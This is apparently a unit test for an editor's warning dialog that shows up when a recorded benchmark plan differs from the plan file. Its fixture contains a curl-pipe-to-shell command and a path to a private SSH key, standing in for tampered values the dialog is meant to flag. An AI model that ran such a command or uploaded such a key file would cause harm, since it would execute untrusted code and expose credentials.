// The editor's question before resuming a run whose recorded plan differs from the plan file.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { recordedPlanQuestion, resumeWithRecorded } from '../../client/src/tasks/recordedPlanQuestion';

test('the modal names each differing field with the recorded and the plan file value', () => {
  const question = recordedPlanQuestion('20261203-run', 'lab.benchplan.json', [
    {
      field: 'servers[0].kernelStopCommand',
      recorded: '"curl x | sh"',
      current: '"sudo -n systemctl stop couchbase-server"',
    },
    { field: 'workload.path', recorded: '"/home/me/.ssh/id_ed25519"', current: '"/w/workloada"' },
  ]);
  assert.equal(
    question.message,
    'The plan recorded in 20261203-run differs from lab.benchplan.json in what it runs or uploads.',
  );
  assert.match(
    question.detail,
    /^servers\[0\]\.kernelStopCommand\n {4}recorded: {2}"curl x \| sh"\n {4}plan file: "sudo -n systemctl stop couchbase-server"\nworkload\.path\n/,
  );
  assert.match(question.detail, /Do so only if you trust this run folder/);
  assert.equal(resumeWithRecorded, 'Resume with the recorded plan');
});
